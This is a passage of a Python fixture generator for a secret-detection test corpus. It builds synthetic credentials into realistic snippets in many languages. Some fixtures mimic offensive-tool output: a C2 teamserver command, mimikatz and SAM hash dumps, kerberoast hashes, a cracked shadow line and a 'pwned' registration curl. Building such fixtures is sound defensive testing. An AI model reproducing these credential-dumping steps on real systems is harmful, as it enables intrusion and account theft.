        ("./teamserver 198.51.100.7 '{}' c2.profile", "hT#q9Lm_2xVw*Pz"),
        ("Mar  3 10:01:12 gw sshd[211]: Invalid user {} from 10.0.0.9 port 5022", "Kestrel44+#"),
        ("# keytab for HTTP/web.corp.example, base64 for the ticket\n{}", q(120, B64)),
        ("OCR: PIN-Brief\nIhre persönliche Geheimzahl (PIN) für die\nKarte Nr. ....4411 "
         "lautet:\n        {}\nBitte vernichten.", "7302"),
        ('dsn := fmt.Sprintf("postgres://%s:%s@%s/app", "svc", "{}", host)', "pQ7!vX2_mLt9#R"),
        ("- 02:21 used break-glass `root@bastion` pw `{}` (rotate!)", "kZ=4Xq#VwBP.gTo+9w"),
        # what the precision fixes below must still take
        ("CF_API_KEY='{}'", "$2a$10$" + q(53, ALNUM + "./")),
        ("Cookie: laravel_session={}", b64('{"iv":"' + q(24, B64) + '","value":"' + q(96, B64)
                                           + '","mac":"' + q(64, HEX) + '","tag":""}')),
        ("- db password: `{}`**", "Xk29fLq0ZmT7"),
    )
    # round 23: corpus 18 after its one run (agents' transcripts and the files they touch)
    dup = q(24)
    out += _shapes(
        "round-23",
        (json.dumps({"type": "assistant", "message": {"content": [{"type": "tool_use", "input": {
            "command": "kubectl -n shop get secret shop-db -o jsonpath='{.data.password}' | "
                       "base64 -d"}}]}}) + "\n" + json.dumps(
            {"type": "user", "message": {"content": [{"type": "tool_result", "content": dup}]},
             "toolUseResult": {"stdout": "{}", "stderr": "", "interrupted": False,
                               "isImage": False}}, separators=(",", ":")), dup),
        ("I found a hard-coded AWS secret access key in `src/s3.ts` line 12: `{}`. It is "
         "committed in 3e1a9c0, so removing it is not enough — deactivate it in IAM first.",
         q(18) + "+" + q(4) + "7" + q(16)),
        ('{"output":"<file>\n00001| db.internal:5432:*:app:{}\n</file>"}', "Zq^BX5bNE#VQfG"),
        ("me@build:~$ openssl rand -base64 32\n{}\nme@build:~$ # ^ the new signing key for prod",
         q(43, B64) + "="),
        ("  DBMasterPassword:\n    Type: String\n    NoEcho: true\n    Default: \"{}\"",
         "maple-kiwi-violet-10"),
        ("INSERT INTO integrations (id, provider, api_key, created_at) VALUES\n  (44, 'mailchimp'"
         ", '{}', now());", q(32, HEX) + "-us8"),
        ("        'password' => Hash::make('{}'),", "IFv8mebDI=9X!q"),
        ("Stockholm: styrelsens Gmail: brf@example.se / lösenord {}", "$n0f@ll19"),
        ("- [x] Internet: Telekom Kundenkennwort {}", "2IXGQYKB"),
        ("- New hire starts Monday, temporary password {} (change at first login)", "ivan0113"),
        ("- [x] create deploy user `deploy` / `{}` on staging-02", "Rockethunder_7$"),
        ("Haustür-Code: {}#  (gilt ab 1.6.)", "3817"),
        ('[{"type":"say","say":"command","text":"heroku auth:token"},{"type":"say","say":'
         '"command_output","text":" ›   Warning: token will expire 06/14/2026\\n{}"}]', quid()),
    )
    # round 24: corpus 19 after its one run (the long tail: regional banks, hosting panels,
    # smart homes, labs, game keys, many scripts)
    out += _shapes(
        "round-24",
        ("HDFC MobileBanking\nCustomer ID: 88120443\nMPIN: {}", "730418"),
        ("$ curl -s -H 'Authorization: cpanel shopowner:{}' 'https://203.0.113.9:2083/execute/"
         "Email/list_pops'", "".join(q(1, UPPER) for _ in range(32))),
        ("root@web02:~# plesk bin secret_key -c -ip-address 127.0.0.1\n{}\nroot@web02:~#",
         quid()),
        ('curl --user "redaktion:{}" -X POST https://verein.example/wp-json/wp/v2/posts',
         " ".join(q(4) for _ in range(6))),
        ("Webhook Bitrix24:\nhttps://shop.bitrix24.de/rest/12/{}/crm.lead.add.json",
         q(16, LOWER)),
        ('[{"name": "Lampe Flur", "id": "' + q(22, HEX) + '", "key": "{}", "ip": "192.168.4.70"}]',
         "k$lsPnTyg>MZHdl~"),
        ("Z-Wave JS UI → Security Keys\nS2_Authenticated: {}", q(32, HEX).upper()),
        ("Autoradio Blaupunkt\nRadio-Code: {}\n(nach Batteriewechsel)", "4719"),
        ('// arduino_secrets.h\n#define SECRET_SSID "Gartenhaus"\n#define SECRET_PASS "{}"',
         "Tilda090488"),
        ("$ omero login -s omero.example.org -u lab -w '{}'", "9kAjx!7h5=Pq"),
        ("Humble-Bundle (noch nicht eingelöst):\n- Celeste: {}", "KWV6Q-WPX9V-5BZGR"),
        ("Caixa de chaves ao lado da porta, código: {}", "58317"),
        ("Google Backup-Codes für ana@example.com\n(noch übrig)\n{}", "7154 2088"),
        ("Livebox (étiquette)\nClé de sécurité: {}", "QGZWCMB5XXT7SZ"),
        ("[WeChat] 妈妈: 银行卡密码是 {}，取钱以后告诉我", "574391"),
        ("Gmail App-Passwort für den Drucker (Name: \"Canon\"):\n{}", "qstw doun mbrc memz"),
        ("# /etc/openvpn/client/auth.txt (Büro)\nj.meyer\n{}", "lingon40518"),
        ("Moodle – if the login loops:\nMoodleSession={}", q(40, HEX)),
        ("fatal: unable to access 'https://deploy:{}@git.example.de/shop/theme.git/'",
         "@KPsCeBRDRhl0ji7"),
        ('{"type":"text","text":"Nextcloud app password created for \'notes\': {}"}',
         "tulpen2011@"),
        ("- 2025-02-01: 인증서 암호: {}", "minji1993#k"),
        ("Hausbuch\n• WLAN: \"Fyrtaarn\"\n• Kode: {}", "K0c1ck@64"),
        ("Антон, [17:14]\nпароль от почты мамы {} — только не меняй", "$0lny$hk075"),
        ('{"text": "пароль от нетфликса теперь {}, не меняйте его"}', "sunflower1998?"),
    )
    # round 25: corpus 20 after its one run (people who are not developers: schools, practices,
    # clubs, landlords, a band's accounts)
    out += _shapes(
        "round-25",
        ("SimplePractice — my login\nkelly.ortiz@example.com\n{}\n(separate from the Gmail pw!)",
         "LotteOskar39"),
        ("Autodesk account (office licence)\nlicence@atelier.example\n{}", "Hannah0604="),
        ("Site Wi-Fi container (Baustelle B2): {}", "AzuF8UkAM0pWq?"),
        ("Club Wi-Fi (bar): {}", "MaximusSC1919"),
        ("Hotspot del telefono di Marco: {}", "kaffeetasse342"),
        ("WLAN zu Hause\nSSID: FRITZ!Box 7590 XQ\nWPA2-Schlüssel: {}", q(20, "0123456789")),
        ("Visa ending 1626, exp 03/28, CVV {} — for the booking", "354"),
        ("Overleaf share link with EDIT rights:\nhttps://www.overleaf.com/{}",
         q(10, "0123456789") + q(12, "abcdefghijklmnopqrstuvwxyz")),
        ('Make.com scenario "Formulaire → Sheets"\nwebhook : https://hook.eu1.make.com/{}',
         q(32, LOWER)),
        ("DeepL API Free auth key: {}", quid() + ":fx"),
        ("Nostr — my nsec: {}", "nsec1" + q(58, "023456789acdefghjklmnpqrstuvwxyz")),
        ("define( 'AUTH_KEY',         '{}' );", "w(Q0AzU:%l<4qm[x>=rZ<wrhYj_GY7+a)Xy%BepQ(A,22xd"),
        ("PHPSESSID of the admin session (from the screenshot): {}", q(26, LOWER)),
        ("Sparkasse Online-Banking\nAnmeldename: wolfgang.h59\nPIN: {}", "dOmEx"),
        ("Banco Sabadell — usuario 47649479, clave de acceso a la banca online: {}", "53895038"),
        ("Clé USB chiffrée (VeraCrypt)\nphrase de passe : « {} »", "citron_moulin_boussole_tige"),
        ("Passphrase of the encrypted GPG key (Kanzlei-Signatur, key id 0xC14B062EDEC81BA4): {}",
         "Rabe Wolke Kompass Laterne Ziegeln"),
        ("Intune — local admin on the staff laptops: .\\admin / {}", "H=#7GJyG5Qt-bAxNY1"),
        ("Caja de la ONG — candado de la taquilla del almacén: {} (combinación)", "0648"),
        ("Carte CPS du Dr Martin — code porteur : {}", "9385"),
        ("Ferienwohnung Ostsee — Schlüsselbox am Eingang\nCode: {}\nWLAN im Gästebuch.", "9858"),
        ("Appart 3B — digicode immeuble : {} / interphone « Moreau »", "B806#"),
        ("Кодовый замок подвала: {}", "0055"),
        ("ウォレットの復元フレーズ:\n{}", "ふへん　おたく　せんむ　かんそう　へいたく　えんとつ　"
         "くわしい　すもう　おうべい　びじゅつかん　うわき　ずぶぬれ"),
        ("助记词（备份）：{}", "尖 船 爬 常 认 持 杜 运 井 气 米 沸"),
    )
    # round 26: corpus 21 after its one run
    out += _shapes(
        "round-26",
        ("Things to tell the house-sitter:\n2. laptop login (guest account pw): {}\n3. plants",
         "emmafinn187@TED"),
        ("DHL Packstation 142: Abholcode {}, gültig bis 12.03.", "404258"),
        ("Can't scan the QR code? Enter this setup key in your authenticator app:\n{}\nThen",
         "egsr vljh pajv xcw3 behy fyej qlrb yfoz"),
        ("Merksatz fürs Master-PW, falls ich's vergesse: {}", "IchVermisseBaileySeit2004?"),
        ("Scan_Brief_Bank.pdf (OCR):\nIhre persönliche Geheimzahl (PIN)\nfür die girocard mit der "
         "Endnummer 3587\nlautet: {}\nBitte vernichten.", "0028"),
        ("Title\tURL\tUsername\tPassword\tNotes\nMeetup.com\thttps://www.meetup.com\tsabine.k\t"
         "{}\t", "nanami_mia47!"),
        ("Ana: Oi! A senha do portão é {}# 🙂", "1958"),
        ("Resolution notes: unlocked in AD, reset pw to {}, updated in Veeam", "uxm5l1kQ6389vrot"),
        ("> Running ssh deploy@vps.example.net 'sudo -S systemctl restart app' <<< '{}'",
         "Schalke.96.54?"),
        ("ACCOUNT CHECK: [mssql] Host: 10.0.0.13 User: sa (1 of 17, 0 complete) Password: {} "
         "(1 of 8 complete)", "Qz7!vLm2"),
    )
    # round 27: corpora 22 and 23 after their one run at the end (power users' tools; everyday
    # life around the world)
    out += _shapes(
        "round-27",
        ('"C:\\Program Files\\VeraCrypt\\VeraCrypt.exe" /q /v "D:\\private.hc" /l X /p "{}" /a',
         "xJLV0DRVt9Uvq0X^juMW48"),
        ("$ echo -n '{}' | sudo cryptsetup luksOpen /dev/sdb1 backupdisk -d -", "SchneeRad7951$"),
        ("$ echo '{}' | zfs load-key tank/private", "D4ck3l?665C"),
        ("rclone serve webdav remote: --addr :8080 --user joplin --pass '{}'", "Pepper=Wolke.92"),
        ("# /etc/redis/redis.conf\nrequirepass {}\nmaxmemory 256mb", "/" + q(31)),
        ("Pi-hole: `pihole -a -p '{}'` (set 2024-01-15)", "Velvet.Sommer*23"),
        ("MONITOR ups@localhost 1 upsmon {} primary", "1vMwPk!fY%P1%a83E#"),
        ('iCloud app-specific password "mbsync": {}', "zuvt-lqyu-sedp-romq"),
        ("Hidden volume — outer pw is the boring one, HIDDEN pw:\n{}",
         "metal cloth dry visual punch decree"),
        ("$ borg key export repo key.txt\n$ cat key.txt\nBORG_KEY " + q(64, HEX) + "\n{}",
         q(76, B64)),
        ("omo abeg, my OPay transaction pin na {} — help me pay the NEPA token", "6921"),
        ("Gogo's phone notes\nEcoCash pin {}\nZESA meter 89096447418", "8895"),
        ("Tigo Pesa — namba ya siri: {}", "9401"),
        ("Kaspi.kz — ПИН-код от Kaspi Gold: {}", "9347"),
        ("HDFC NetBanking\nCustomer ID: 24420834\nIPIN: {}", "5523"),
        ("Portal DGAE UNAM\nNo. de cuenta: 387891684\nNIP: {}", "9378"),
        ("WAEC result checker\nSerial No: WRN213173705\nPIN: {}", "336294124136"),
        ("Amazon gift card (not redeemed yet)\nClaim code: {}", "Y7N3-AS1CMG-WFGXL"),
        ("Pola kunci HP ibu (Oppo A17): {}", "9-2-6-8-3"),
        ("WhatsApp end-to-end encrypted backup — 64-digit key\n{}",
         " ".join(q(4, "0123456789") for _ in range(16))),
        ("otpauth-migration://offline?data={}", q(60, B64).replace("+", "%2B") + "%3D%3D"),
        ("curl https://api.xendit.co/v2/invoices -u {}:", "xnd_production_" + q(60)),
        ("ไวไฟคอนโด ชั้น 12: {}", "1978nong$x"),
        ("راوتر WE\nالباسورد: {}", "Yasmin79%ahm"),
        ("QQ邮箱 SMTP 授权码：{}", q(16, "abcdefghijklmnopqrstuvwxyz")),
    )
    # round 28: what the real sample's fixes must keep taking out (a key handed to a call
    # named for it; a code of capitals after its word)
    out += _shapes(
        "round-28",
        ('>>> lims = Client(url="https://lab.example.org", auth=ApiKeyAuth("{}"))', "sk_" + q(32)),
        ("网易邮箱客户端授权密码 {}  （Thunderbird用）", q(16, string.ascii_uppercase)),
        ("curl -X POST http://localhost:8080/login --data 'user=alice&password={}&remember-me=on'",
         "Kx8!" + q(8)),
        ("Set-Cookie: sessionid={}; Path=/; HttpOnly; SameSite=Lax", q(32, LOWER)),
        ("$ expect -c 'spawn ssh pi@10.0.0.9; expect \"password:\"; send \"{}\\r\"; interact'",
         "Birke-" + q(4, "0123456789") + "K"),
        ("رمز فایل اکسل حقوق کارمندان: {}", "mh3" + q(6, string.ascii_lowercase) + ".k55"),
        ("Gitee 私人令牌（同步镜像用）：{}", q(32, HEX)),
    )
    # round 29: corpora 24 and 25 after their one run (the home lab; data and research work)
    pve = "\n".join([
        "root@pve:~# pveum user token add ci@pve deploy --privsep 0",
        "┌──────────────┬──────────────────────────────────────┐",
        "│ key          │ value                                │",
        "╞══════════════╪══════════════════════════════════════╡",
        "│ full-tokenid │ ci@pve!deploy                        │",
        "├──────────────┼──────────────────────────────────────┤",
        "│ value        │ {} │",
        "└──────────────┴──────────────────────────────────────┘"])
    out += _shapes(
        "round-29",
        ("Backlog MqttHost 10.0.0.5; MqttUser tasmota; MqttPassword {}; Topic dryer",
         "Rabe_" + q(6, string.ascii_lowercase) + "42"),
        ("root@OpenWrt:~# uci set wireless.@wifi-iface[0].key='{}'", "lotte" + q(5, "0123456789")),
        ("C:\\> net use Y: \\\\fileserver\\scans {} /user:OFFICE\\anna",
         "Porto*Lab" + q(3, "0123456789")),
        ("$ rclone obscure '{}'\n" + q(40, URLSAFE), "mila" + q(4, "0123456789") + "-"),
        ("mc alias set backup https://s3.example.net " + q(20, string.ascii_uppercase) + " {}",
         q(40, ALNUM)),
        ("!wandb login {}", q(40, HEX)),
        ("$ kinit jdoe@CLUSTER.EXAMPLE.ORG <<< '{}'", "Ottawa" + q(2, "0123456789") + "_"),
        ("curl -u {}: https://api.example-gpu.cloud/v1/instances",
         "secret_lab-ml_" + q(32, HEX) + "." + q(20)),
        ("snmpwalk -v2c -c {} 192.168.1.20 system", q(10, string.ascii_letters)),
        ("snmpget -v3 -l authNoPriv -u monitor -a SHA -A '{}' 10.0.0.2 sysUpTime.0",
         "mint" + q(3, "0123456789") + "+x"),
        ('[[inputs.snmp]]\n  agents = ["udp://10.0.0.2:161"]\n  community = "{}"', q(12)),
        ("WATCHTOWER_NOTIFICATION_URL=discord://{}@" + q(18, "0123456789"), q(68, URLSAFE)),
        ("*.home.example.com {\n    tls {\n        dns hetzner {}\n    }\n}", q(32)),
        ('<Option name="NetworkKey" value="{}" />',
         ", ".join("0x" + q(2, "0123456789ABCDEF") for _ in range(16))),
        ("S2 Unauthenticated: {}", q(32, "0123456789ABCDEF")),
        ("db.internal.example.org:5432:app:svc_app:{}", "Gauss" + q(4, "0123456789") + "."),
        ("# /etc/davfs2/secrets\nhttps://cloud.example.org/remote.php/dav/files/oma/  oma  {}",
         "-".join(q(5) for _ in range(5))),
        (pve, quid()),
        ("    Schlüsselinhalt        : {}", "Gast" + q(6, string.ascii_letters) + "2016"),
        ("ssid=Garage\nwpa=2\nwpa_passphrase={}\nwpa_key_mgmt=WPA-PSK", q(16, "0123456789")),
        ("ngrok token for the defence demo: {}", q(27) + "_" + q(21)),
        ('#!/usr/bin/expect -f\nspawn ssh tk@login.hpc.example.edu\nexpect "Password:"\n'
         'send "{}\\r"\ninteract', "Sh@ng" + q(4, "0123456789")),
        ('env:\n  - name: LAB_API_KEY\n    value: "{}"\n  - name: LAB_RUN\n    value: abl-3',
         "local-" + q(40, HEX)),
        ("AWS_SECRET_ACCESS_KEY={}\nAWS_DEFAULT_REGION=eu-west-1",
         "/" + q(9, ALNUM) + "/" + q(5) + "7" + q(22, ALNUM) + "9"),
        ('{{"content": "REDCAP_TOKEN_PID12={}\\nREDCAP_URL=https://redcap.example.org/api/"}}',
         q(32, "0123456789ABCDEF")),
        ('{{"output": "ok\\n{}\\n"}}', "ghp_" + q(36)),
        ("- [ ] is `influx_pw` still in git history?! (`influx_pw: {}`)",
         "Falcon." + q(6, string.ascii_letters) + "97"),
        ("alarm_control_panel:\n  - platform: manual\n    name: Haus Alarm\n    code: '{}'",
         q(6, "123456789")),
        ("Jellyfin API-Key für Jellyseerr: `{}`", q(32, HEX)),
        ("can u ssh into the cluster? pasword is {}", "Zurich" + q(4, "0123456789") + "!"),
        ('$pw = ConvertTo-SecureString "{}" -AsPlainText -Force', q(6) + "%" + q(7) + "="),
        # a chosen password after any label, alone at its line's end
        ("Bandcamp — conta da banda: {}", "Rita&Joel" + q(4, "0123456789")),
        ("PayPal личный: {} (почта на yandex)", q(12, string.ascii_letters) + "+6"),
        ("- Router Login: {}", "Gr9" + q(5, string.ascii_lowercase) + "%%"),
        # a passphrase after a dash, or on the next line in inline code; a letter's digits; a
        # password in brackets after its word
        ("Vaultwarden master password (Oma) — {}", " ".join(
            own.choice(("amber", "quartz", "violet", "ember", "pepper", "tractor", "lagoon",
                        "marble", "falcon", "meadow")) for _ in range(6))),
        ("das initiale Passwort aus der AIO-Oberfläche:\n`{}`", " ".join(
            own.choice(("bergen", "bremen", "kaffee", "austin", "oslo", "mango", "tiger",
                        "wolke")) for _ in range(8))),
        ("Ihr Passwort für das Kundenportal: {}. Kundennummer 0408852459.",
         q(1, "123456789") + q(5, "0123456789")),
        ("- [ ] change the Disney+ pw (currently {}) — Tom still uses it", q(10) + "&"),
        # an agent's chat: a password in brackets, a login "with" its user and password, a
        # variable set "to" its value
        ("connect to redis on 10.0.4.2 (password {}) and check slowlog", q(7) + "-" + q(3)),
        ("log into the switch at 192.168.0.2 with admin and {} and list the ports",
         "linde@" + q(6, string.ascii_lowercase) + "-74"),
        ("Ich setze `DB_PASSWORD` in `.env` auf `{}` und starte den Stack neu.",
         "MonChat" + q(8, string.ascii_letters) + "68+"),
        ("- [ ] memorize: `{}` (then delete this line!)", "_".join(
            own.choice(("pretty", "earth", "decade", "tackle", "evolve", "romance", "alarm",
                        "lizard", "orbit", "pepper")) for _ in range(7))),
    )
    # round 30: corpora 28 and 29 after their one run (small businesses; mobile, embedded,
    # games and streaming)
    low = string.ascii_lowercase
    out += _shapes(
        "round-30",
        ("ffmpeg -re -i in.mp4 -f flv rtmp://live.twitch.tv/app/{}",
         "live_" + q(9, "0123456789") + "_" + q(30)),
        ("ffmpeg -i cam.mp4 -f flv rtmp://a.rtmp.youtube.com/live2/{}",
         "-".join(q(4, low + "0123456789") for _ in range(5))),
        ("multistream: restream key {} (nicht ändern)",
         "re_" + q(7, "0123456789") + "_" + q(20, HEX)),
        ('WiFi.begin("Casa-5G", "{}");', "Bobik&" + q(5, string.ascii_letters) + "95"),
        ('ArduinoOTA.setPassword("{}");', "Choco_" + q(7, string.ascii_letters) + "02"),
        ('ElegantOTA.setAuth("admin", "{}");', "ILove" + q(5, string.ascii_letters) + "32"),
        ('with MCRcon("127.0.0.1", "{}", port=25575) as mcr:', "VIKING_" + q(6, low) + "5578"),
        ("$ python3 espota.py -i 192.168.1.5 -p 3232 -a '{}' -f firmware.bin",
         q(5, low) + "4_" + q(6, low)),
        ("upload_protocol = espota\nupload_flags =\n    --port=3232\n    --auth={}",
         "tarkov_" + q(4, low) + "98"),
        ("NimBLEDevice::setSecurityPasskey({});", "8" + q(5, "0123456789")),
        ("CONFIG_BT_FIXED_PASSKEY=y\n# main.c: bt_passkey_set({});", "7" + q(5, "0123456789")),
        ("static const u1_t PROGMEM APPKEY[16] = { {} };",
         ", ".join("0x" + q(2, "0123456789ABCDEF") for _ in range(16))),
        ("obs-cmd --websocket obsws://192.168.1.10:4455/{} scene switch Game", q(16)),
        ("force_install_dir ../srv\nlogin builder_bot {}\napp_update 376030 validate",
         "Nagoya_" + q(4, "0123456789")),
        ("> enablecheats {}\nCheats enabled", "V1king" + q(3, "0123456789")),
        ("$ rcon -a 10.0.0.5:27015 -p '{}' status", "Kuro_" + q(5, string.ascii_letters) + "82"),
        ('gslt="{}"', q(32, "0123456789ABCDEF")),
        ("$ particle token create\nNew access token expires on Thu Jul 03 2025\n    {}",
         q(40, HEX)),
        ('<string moduleConfig="true" name="CodePushDeploymentKey">{}</string>', q(37, URLSAFE)),
        ("xcrun altool --upload-app -f App.ipa -u dev@example.org -p {}",
         "-".join(q(4, low) for _ in range(4))),
        ('GameAnalytics.initialize(activity, "' + q(32, HEX) + '", "{}");', q(40, HEX)),
        ("| Key | Value |\n|---|---|\n| MATCH_PASSWORD | `{}` |",
         "Passw0rd" + q(5, string.ascii_letters) + "!"),
        ("gameKey:\n  - " + q(32, HEX) + "\nsecretKey:\n  - {}", q(40, HEX)),
        ('wifi_password: "{}"', q(20, "0123456789")),
        ("environment:\n  - CS2_RCONPW={}", "Curitiba_" + q(4, "0123456789")),
        ("$ cat ~/.config/itch/butler_creds\n{}", q(40)),
        ("- APIキー (butler用): `{}`", q(40)),
        ("- 로봇 토큰 (CI용): `{}`", q(40, URLSAFE)),
        ("シークレットキー {} はリポジトリに入れないこと", q(40, HEX)),
        ("particle.callFunction({ deviceId: 'x', name: 'led', auth: '{}' })", q(40, HEX)),
        # a domain's transfer code; a till's and an alarm's codes; a password in Portuguese, one
        # starting with "$3", a passphrase after a compound word
        ("Domain-Umzug zu IONOS\nAuthCode: {}\nAuftragsnummer: 915342107",
         q(9, string.ascii_letters) + ")" + q(2, string.ascii_uppercase)),
        ("Transfer to Cloudflare\nEPP/Auth code: {}\nUnlocked at GoDaddy", "c+->" + q(6) + "%&"),
        ("Code de transfert (AUTHINFO) pour panaderia.fr : {}\nValable 7 jours.",
         "t=;)%" + q(8)),
        ("Verhuiscode (token) bakkerij.nl: {}\naangevraagd bij TransIP", "FG&" + q(6) + "?f"),
        ("[24.12.24, 07:58] Marco: der Storno-Code ist jetzt {}\n[24.12.24, 08:01] Anna: ok",
         "2" + q(3, "13579")),
        ("**Kasa fiskalna Elzab** – kod kierownika: `{}`", "1" + q(3, "02468")),
        ("Notitie kassa (Untill):\n- beheerderscode = {}\n- dagafsluiting om 23:00",
         "9" + q(3, "13579")),
        ("Securitas Direct / Verisure\ncódigo de desconexión: {}\nnº contrato: 9221060",
         "6" + q(3, "02468")),
        ("Citius (mandatários)\npalavra-passe: {}", "Valencia" + q(4, "0123456789") + "_"),
        ("archivo: cert_empresa.pfx\ncontraseña de exportación: {}",
         "$3" + q(5, string.ascii_lowercase) + "2004"),
        ("> Hauptkennwort Passwortmanager (Proton Pass): `{}`", " ".join(
            own.sample(("Kamm", "Kawa", "Oliva", "Hefe", "Tisch", "Wolke", "Birne"), 4))),
        ("Synology DSM admin account 'nasadmin': {}", "AkHH!" + q(8) + "^2R"),
    )
    jwt = ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6Y2k6"
           + r(80, URLSAFE) + "." + r(120, URLSAFE))
    out.append(Shape("round-9", "$ kubectl create token ci-deployer\n" + "\n".join(
        jwt[i:i + 80] for i in range(0, len(jwt), 80)) + "\n$ ", jwt))
    out.append(Shape("round-15", 'curl -d "reg_name=pwned&reg_password=pwned123&reg_email='
                     'pwned@mail.com" http://target', "pwned123"))
    out.append(Shape("round-9", "// never ship the admin key to the client; it is not public\n"
                     "ADMIN_KEY=" + (key := r(29)), key))
    out.append(Shape("round-9", 'db:\n  password: "dojwF4zPHp3Rj8\\\n    +ne7743E4V2.PT"\n',
                     "dojwF4zPHp3Rj8+ne7743E4V2.PT"))
    out.append(Shape("round-9", "access_token: " + "\n".join(
        jwt[i:i + 80] for i in range(0, len(jwt), 80)) + "\n$ ", jwt))
    # round 31: literals in code, beside the names, members and formulas that are none (the
    # near misses of the same name): a literal is a secret wherever it stands
    low = string.ascii_lowercase
    out += _shapes(
        "round-31",
        ('client := NewClient(Config{User: "ops", Password: "{}"})', "Kite" + q(6) + "!7"),
        ("conn = connect(host=db, user=admin, password={})", "Tern" + q(5) + "42x"),
        ("{user: deploy, password: {}}", "Wren" + q(6, low) + "9Q"),
        ("let creds = Credentials(token: \"{}\", region: .euWest)", q(36, HEX)),
        ("$config['db_password'] = '{}';", "Moss" + q(6) + "#1"),
        ("- first pass: {}", "Heron" + q(4, "0123456789") + "!"),
        ("cost of a hash: $O(n)$, and the admin password: {}", "Lark_" + q(6) + "3"),
        ("ci@builds.example.org\n{}", "Plover" + q(4, "0123456789") + "?"),
        ("(`grafana_pw: {}`)", "Falcon." + q(5, string.ascii_letters) + "61"),
        ("backup login: `backupsvc` / `{}`", "ba" + q(4) + "!" + q(2, "0123456789")),
        ("- password for the pi in the garage is {}", "pi/" + q(7, low)),
        ("environment:\n  - RABBITMQ_DEFAULT_PASS={}", "my" + q(8, low)),
        ("Kurz fürs Team: das Gäste-WLAN-Passwort lautet {} (bis Juni)",
         ".".join(q(5, low) for _ in range(3)) + "7"),
        ("Ticket 4411: she said on the phone her password is '{}' and it worked before.",
         "Bl" + q(4) + "&" + q(5) + "9"),
    )
    # round 32: what a penetration tester's tools print (an NT hash, a cleartext LSA secret, a
    # hit, a cracked shadow line, a roasted hash and its password, a TLS key log), a web
    # builder's CLIs, deploy hooks, a command that prints a token, a token before a setting
    out += _shapes(
        "round-32",
        ("[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)\nAdministrator:500:"
         "aad3b435b51404eeaad3b435b51404ee:{}:::", q(32, HEX)),
        ("[*] $MACHINE.ACC\nCORP\\WKS07$:aad3b435b51404eeaad3b435b51404ee:{}", q(32, HEX)),
        ("mimikatz # sekurlsa::logonpasswords\n         * NTLM     : {}", q(32, HEX)),
        ("[*] _SC_Veeam\ncorp\\svc_veeam:{}", "Vee" + q(6) + "!24"),
        ("SMB  10.0.4.12  445  DC02  [+] corp.lan\\j.moss:{} (Pwn3d!)", "Moss" + q(5) + "#9"),
        ("$ john --show loot/shadow\nops:{}:19823:0:99999:7:::\n\n1 password hash cracked",
         "Gull" + q(5) + "%1"),
        ("kerberoast → `$krb5tgs$23$*svc_web$CORP.LAN$http/web01*$" + q(32, HEX) + "$"
         + q(96, HEX) + ":{}`", "Tide" + q(5) + "&7"),
        ("AS-REP roastable:\n{}", "$krb5asrep$23$k.lee@CORP.LAN:" + q(32, HEX) + "$"
         + q(160, HEX)),
        ("$ hashcat -m 5600 hashes/ntlmv2.txt --show\nJLEE::CORP:" + q(16, HEX) + ":"
         + q(32, HEX) + ":0101000000000000" + q(80, HEX) + ":{}", "Harbor" + q(4, "0123456789")),
        ("# SSL/TLS secrets log file\nCLIENT_RANDOM " + q(64, HEX) + " {}", q(96, HEX)),
        ("$ vt -k {} file " + q(64, HEX), q(64, HEX)),
        ("  script:\n    - snyk auth {}\n    - snyk test", uuid()),
        ("curl -X POST https://api.vercel.com/v1/integrations/deploy/prj_" + q(28) + "/{}",
         q(10)),
        ("Deploy hook: https://api.netlify.com/build_hooks/{}", q(24, HEX)),
        ("`config/master.key` leaked in the image: `{}`", q(32, HEX)),
        ('cookies = {"session": "{}"}  # my session on the platform', q(32, LOWER)),
        ('S.headers["Authorization"] = "Token ctfd_{}"', q(64, HEX)),
        ("Cookie: .AspNetCore.Cookies=CfDJ8{}", q(120, URLSAFE)),
        ("- `d` cookie: `xoxd-{}`", q(8) + "%2F" + q(30) + "%2B" + q(40)),
        ("$ aws ecr get-login-password --region eu-west-1\n{}", "eyJwYXlsb2FkIjoi" + q(200)),
        ("$ gcloud auth print-access-token\n{}", "ya29." + q(120, URLSAFE)),
        ("OPENAI_API_KEY=sk-proj-" + q(60, URLSAFE) + "\nSESSION_SECRET={}", q(64, HEX)),
    )
    # round 33: money and the world's clouds: a card's number (grouped, or bare beside a
    # card's word) and its security code after the expiry, a table's PIN and key columns,
    # access key ids under their names or by their prefix, an exchange's "private:", a
    # node provider's endpoint, a daemon's --rpc-login, a channel secret in Japanese
    out += _shapes(
        "round-33",
        ("Company Visa for the booking: {} exp 03/29", card(4, " ")),
        ("Ramp virtual card for the deposit: " + card(4, "") + " / 07/28 / {}",
         q(3, "123456789")),
        ("name,number,exp,cvc\nOps team," + card(5, "") + ",11/27,{},5000", q(3, "123456789")),
        ("Bank\tEntity\tLogin\tPIN\nStadtsparkasse\tAcme GmbH\tacme-fin\t{}",
         q(5, "123456789")),
        ("Vendor\tPlan\tAPI key\nCoinGecko\tAnalyst\t{}", uuid()),
        ("[DEFAULT]\nncloud_access_key_id = {}\nncloud_secret_access_key = " + q(40),
         q(20, UPPER)),
        ('ak = "{}"\nsk = "' + q(40) + '"', q(20, UPPER)),
        ("cos:\n  secret-id: {}\n  region: ap-guangzhou", "AKID" + q(32)),
        ("accessKeyID= {}\naccessKeySecret=" + q(30), "LTAI" + q(16)),
        ("kraken spot key:\n  public: " + q(56, ALNUM + "+/") + "\n  private: {}",
         q(86, ALNUM + "+/") + "=="),
        ("rpc: https://quiet-river-meadow.quiknode.pro/{}/", q(40, HEX)),
        ("monerod-wallet-rpc --rpc-bind-port 18083 --rpc-login wallet:{} --detach",
         "vR" + q(10) + "&="),
        ("チャネルシークレット: {}", q(32, HEX)),
        ("curl -H \"Authorization: KakaoAK {}\" https://dapi.kakao.com/v2/search/web",
         q(32, HEX)),
        ("$ qshell account {} " + q(40, URLSAFE) + " prod", q(40, URLSAFE)),
        ("TradingClient(\"{}\", \"" + q(40) + "\", paper=False)  # alpaca live",
         "AK" + q(18, UPPER)),
    )
    # round 35: the data engineer's tools and the small company's SaaS: SQL Server's bcp -P,
    # Oracle's user/password@db and wallet, SQL's IDENTIFIED BY "…", Sentinel's auth-pass, a
    # schema registry's key:secret, a storage key in Spark's conf, prefixed keys (Prefect,
    # Cloud Storage's HMAC id, Klaviyo, WooCommerce, Amazon), Asana's token, an app password,
    # a password manager's share link, a workflow's webhook host, recovery codes on two lines
    out += _shapes(
        "round-35",
